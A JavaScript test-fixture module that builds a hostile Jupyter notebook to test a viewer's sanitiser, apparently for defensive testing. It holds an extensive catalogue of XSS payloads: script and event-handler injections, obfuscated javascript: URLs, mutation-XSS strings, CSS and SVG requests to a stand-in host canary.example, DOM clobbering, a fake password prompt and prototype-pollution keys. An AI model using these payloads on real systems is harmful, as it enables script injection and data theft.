/**
 * What a hostile file may hold, field by field. Each payload, were it believed, sets the global
 * `canary` of the page, asks a host that does not exist, or asks our own server for a path with
 * `canary` in it. Written after what HTML, SVG, MathML, CSS, Markdown and `.ipynb` allow, not after
 * what our sanitiser forbids.
 */
import * as notebooks from './notebooks.mjs';

const SET = 'window.canary=1';
const FAR = 'http://canary.example/steal';
const NEAR = 'canary-near';
/** A script in an address, as a browser reads it after its own clean-up. */
const SCRIPT = `javascript:${SET}`;

/** Markup that is tried as Markdown, as an HTML output and as an SVG output alike. */
export const MARKUP = [
  `<script>${SET}</script>`,
  `<script src="${FAR}.js"></script><script src="${NEAR}.js"></script>`,
  `<SCRIPT\n>${SET}</SCRIPT\n>`,
  `<svg><script>${SET}</script></svg>`,
  `<svg><script href="data:text/javascript,${SET}"/></svg>`,
  `<img src=x onerror="${SET}">`,
  `<img src="${NEAR}.png" onload=${SET} onerror=${SET}>`,
  `<img src="${FAR}.png">`,
  `<img srcset="${FAR}-1.png 1x, ${NEAR}-2.png 2x" src="data:image/png;base64,AAAA" onerror="${SET}">`,
  `<img src="//canary.example/protocol.png">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${SET}'><image href='${FAR}.png'/></svg>">`,
  `<picture><source srcset="${FAR}-s.png"><img src="${NEAR}-p.png"></picture>`,
  `<video src="${FAR}.mp4" poster="${FAR}-poster.png" autoplay onloadstart="${SET}" onerror="${SET}"></video>`,
  `<audio src="${NEAR}.mp3" autoplay onerror="${SET}"><source src="${FAR}.mp3" onerror="${SET}"></audio>`,
  `<iframe src="${SCRIPT}"></iframe><iframe srcdoc="<script>parent.${SET.slice(7)}</script>"></iframe><iframe src="${FAR}.html"></iframe>`,
  `<object data="${SCRIPT}"></object><object data="${FAR}.swf"></object><embed src="${FAR}.svg"><embed src="${SCRIPT}">`,
  `<link rel="stylesheet" href="${FAR}.css"><link rel="preload" as="image" href="${NEAR}.png"><link rel="dns-prefetch" href="//canary.example">`,
  `<meta http-equiv="refresh" content="0;url=${FAR}.html"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="http://canary.example/">`,
  `<style>@import url(${FAR}.css); body{background:url(${FAR}-bg.png)} .shell{display:none}</style>`,
  `<div style="background:url(${FAR}-style.png);position:fixed;inset:0;z-index:99999">par-dessus tout</div>`,
  `<div style="width:expression(${SET});behavior:url(${FAR}.htc);-moz-binding:url(${FAR}.xml)">x</div>`,
  `<table background="${FAR}-table.png"><tr><td background="${NEAR}-cell.png">x</td></tr></table>`,
  `<body onload="${SET}" onpageshow="${SET}" background="${FAR}-body.png">`,
  `<details open ontoggle="${SET}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${SET}"><select autofocus onfocus="${SET}"></select><textarea autofocus onfocus="${SET}"></textarea>`,
  `<div tabindex=1 autofocus onfocus="${SET}" contenteditable>x</div>`,
  `<div onmouseover="${SET}" onpointerenter="${SET}" onclick="${SET}" onanimationstart="${SET}" style="animation:x 1s">survol</div>`,
  `<form action="${FAR}"><input name="q"><button formaction="${SCRIPT}">envoyer</button></form><isindex action="${SCRIPT}">`,
  `<a href="${SCRIPT}">un</a> <a href=" \u0001java\nscript:${SET}">deux</a> <a href="JaVaScRiPt&colon;${SET}">trois</a> <a href="&#106;&#97;vascript:${SET}">quatre</a>`,
  `<a href="data:text/html,<script>opener.${SET.slice(7)}</script>">données</a> <a href="vbscript:${SET}">vb</a> <a href="blob:${FAR}">blob</a>`,
  `<a ping="${FAR}-ping" href="#x" onclick="${SET}">ping</a>`,
  `<svg><a xlink:href="${SCRIPT}"><text y="20">svg</text></a><a href="${SCRIPT}"><text y="40">svg</text></a></svg>`,
  `<svg><image href="${FAR}-image.png"/><image xlink:href="${NEAR}-image.png"/><use href="${FAR}.svg#x"/><use xlink:href="data:image/svg+xml,<svg id='x' onload='${SET}'/>#x"/></svg>`,
  `<svg><animate attributeName="href" values="${SCRIPT}"/><set attributeName="onmouseover" to="${SET}"/><a id="svga"><rect width="9" height="9"/><animate attributeName="href" to="${SCRIPT}" begin="0s"/></a></svg>`,
  `<svg onload="${SET}"><g onload="${SET}"></g><foreignObject><img src=x onerror="${SET}"><iframe src="${FAR}-fo.html"></iframe></foreignObject></svg>`,
  `<svg><style>@import "${FAR}-svg.css"; rect{fill:url(${FAR}.svg#f)}</style><rect style="fill:url(${FAR}2.svg#f)" filter="url(${FAR}3.svg#f)"/><feImage href="${FAR}-fe.png"/></svg>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="${SCRIPT}">x</maction><mtext><img src=x onerror="${SET}"></mtext><annotation-xml encoding="text/html"><img src=x onerror="${SET}"></annotation-xml></math>`,
  `<math href="${SCRIPT}"><mi xlink:href="${SCRIPT}">x</mi></math>`,
  // Readings that change when markup is written out and read again.
  `<noscript><p title="</noscript><img src=x onerror=${SET}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SET}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${SET}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${SET}>`,
  `<p title="--><img src=x onerror=${SET}>"><!--></p>`,
  `<xmp><p title="</xmp><img src=x onerror=${SET}>"></xmp><plaintext><img src=x onerror=${SET}>`,
  `<textarea><p title="</textarea><img src=x onerror=${SET}>"></textarea><title><p title="</title><img src=x onerror=${SET}>">`,
  `<select><style></select><img src=x onerror=${SET}></style></select>`,
  `<![CDATA[<img src=x onerror=${SET}>]]><?xml-stylesheet href="${FAR}.xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "${FAR}.ent">]>`,
  `<img """><script>${SET}</script>">`,
  `<img src="x\` \`<script>${SET}</script>"\` \`>`,
  `<template><img src=x onerror="${SET}"></template><div shadowrootmode=open><template shadowrootmode="open"><img src=x onerror="${SET}"></template></div>`,
  `<x-canary onclick="${SET}" is="x">x</x-canary><slot name="x"></slot><portal src="${FAR}"></portal>`,
  // Standing for parts of the page.
  `<div id="content">faux</div><form id="app"><input name="body"><input name="nodeName"></form><img name="getElementById"><a id="canary" name="canary" href="x:y">z</a>`,
  `<button data-testid="stop" class="action action-stop">Arrêter</button><span data-testid="saved-state" data-state="saved">Enregistré</span><div class="backdrop dialog" role="alert">Entrez votre mot de passe</div>`,
];

/** Markdown of its own kind. */
const MARKDOWN = [
  `[un](${SCRIPT}) [deux](JAVASCRIPT:${SET}) [trois](java\tscript:${SET}) [quatre](<java&Tab;script:${SET}>) [cinq](data:text/html,<script>${SET}</script>)`,
  `![image](${FAR}-md.png) ![proche](${NEAR}-md.png) ![racine](/${NEAR}-root.png "titre\\" onerror=${SET}") ![svg](data:image/svg+xml,<svg/onload=${SET}>)`,
  `![x](x"onerror="${SET}) ![" onerror="${SET}](a.png) [x](http://x/"onclick="${SET})`,
  `<${SCRIPT}> <http://canary.example/"onclick="${SET}>\n\n[ref]: ${SCRIPT}\n[ref]`,
  `\`\`\`"><script>${SET}</script>\nx\n\`\`\`\n\n\`<img src=x onerror=${SET}>\``,
  `$\\href{${SCRIPT}}{x}$ $\\unicode{<img src=x onerror=${SET}>}$ $$\\text{</mtext><img src=x onerror=${SET}>}$$ $\\style{background:url(${FAR}-tex.png)}{x}$ $\\includegraphics{${FAR}-g.png}$ $<img src=x onerror=${SET}>$`,
  `:::{admonition} <img src=x onerror=${SET}>\n:class: "><script>${SET}</script>\ntexte\n:::\n\n:::{raw} html\n<script>${SET}</script>\n:::\n\n:::{include} ${FAR}.md\n:::\n\n:::{figure} ${FAR}-fig.png\n:::`,
  `[^1]: <img src=x onerror=${SET}>\n\nnote[^1]\n\n| <img src=x onerror=${SET}> |\n|---|\n| [x](${SCRIPT}) |\n\n- [ ] <script>${SET}</script>`,
  '<div>'.repeat(3000) + '> '.repeat(3000) + '*_'.repeat(3000) + '[x]('.repeat(2000) + '$\\frac{'.repeat(2000),
];

/** @returns {Record<string, any>} one file with all of it */
export function hostileNotebook() {
  const evil = `"><img src=x onerror=${SET}><script>${SET}</script>`;
  const cells = [notebooks.code('print(6 * 7)')];
  for (const text of [...MARKUP, ...MARKDOWN]) cells.push(notebooks.markdown(text));
  for (const text of MARKUP) {
    cells.push(notebooks.code('html', [notebooks.display({ 'text/html': text, 'text/plain': text })]));
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${text}</svg>`;
    cells.push(notebooks.code('svg', [notebooks.display({ 'image/svg+xml': svg })]));
  }
  for (const text of MARKDOWN) {
    cells.push(notebooks.code('md', [notebooks.display({ 'text/markdown': text }), notebooks.display({ 'text/latex': text })]));
  }
  cells.push(
    notebooks.code('txt', [
      notebooks.stdout(`${evil}\u001b[31m${evil}\u001b[0m\u001b]8;;${SCRIPT}\u0007lien\u001b]8;;\u0007\u001b]0;${evil}\u0007\n`),
      { output_type: 'stream', name: evil, text: [evil] },
      { output_type: 'error', ename: evil, evalue: evil, traceback: [evil, `\u001b[31m${evil}\u001b[0m`, `File <a href="${SCRIPT}">x</a>`] },
      { output_type: 'execute_result', execution_count: 1, metadata: { isolated: true, 'text/html': { isolated: evil } }, data: { 'text/plain': evil } },
      notebooks.display({ 'application/javascript': SET, 'text/javascript': SET, 'application/vnd.jupyter.widget-view+json': { model_id: evil }, 'text/plain': 'js' }),
      notebooks.display({ 'application/javascript': [SET] }),
      notebooks.display({ 'image/png': `AAAA" onerror="${SET}` }),
      { output_type: 'display_data', metadata: { 'image/png': { width: `1" onerror="${SET}`, height: SCRIPT, alt: evil } }, data: { 'image/png': 'AAAA' } },
      notebooks.display({ 'application/vnd.ardoise.controls+json': controls(evil), 'text/plain': evil }),
      notebooks.display({ 'application/pdf': evil, 'text/x-canary': evil, [evil]: evil }),
    ]),
    { ...notebooks.markdown('![a](attachment:a.png) ![b](attachment:"onerror="x) ![c](attachment:c.svg) <img src="attachment:a.png">'), attachments: {
      'a.png': { 'image/png': `AAAA" onerror="${SET}`, 'text/html': `<script>${SET}</script>` },
      '"onerror="x': { 'image/png': 'AAAA' },
      'c.svg': { 'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" onload="${SET}"><script>${SET}</script><image href="${FAR}-att.png"/></svg>` },
      '__proto__': { 'text/html': evil },
    } },
    { ...notebooks.markdown(`titre ${evil}`), metadata: { tags: [evil], name: evil, slideshow: { slide_type: evil }, collapsed: evil, __proto__x: evil } },
    { cell_type: 'raw', metadata: { format: 'text/html', raw_mimetype: 'text/html' }, source: [`<script>${SET}</script><img src=x onerror=${SET}>`] },
    { ...notebooks.code('ids'), id: `a"]${evil}` },
    { ...notebooks.code('ids'), id: '__proto__' },
    { ...notebooks.code('ids'), id: 'constructor' },
    { ...notebooks.code('dernier'), id: 'app' },
  );
  const file = notebooks.notebook(cells, {
    title: evil,
    authors: [{ name: evil }],
    kernelspec: { display_name: evil, language: evil, name: evil },
    language_info: { name: 'python', codemirror_mode: { name: evil }, mimetype: 'text/html', file_extension: evil },
    widgets: { 'application/vnd.jupyter.widget-state+json': { state: { x: { model_module: `${FAR}.js` } } } },
  });
  return file;
}

/** A tree of controls that says evil in every place. @param {string} evil */
function controls(evil) {
  const facts = {
    text: evil,
    value: evil,
    tooltip: evil,
    look: evil,
    layout: { width: `url(${FAR})`, border: `1px solid; background: url(${FAR})`, position: 'fixed', margin: '-9999px', [evil]: evil },
    style: { button_color: `url(${FAR})` },
  };
  const outputs = [notebooks.display({ 'text/html': evil }), notebooks.display({ 'image/svg+xml': evil }), { output_type: evil }];
  const kinds = ['label', 'button', 'toggle', 'toggles', 'valid', 'progress', 'output', 'none', evil];
  return { kind: 'row', id: evil, label: evil, facts, children: kinds.map((kind) => ({ kind, id: evil, label: evil, facts: { ...facts, options: [evil] }, outputs })) };
}
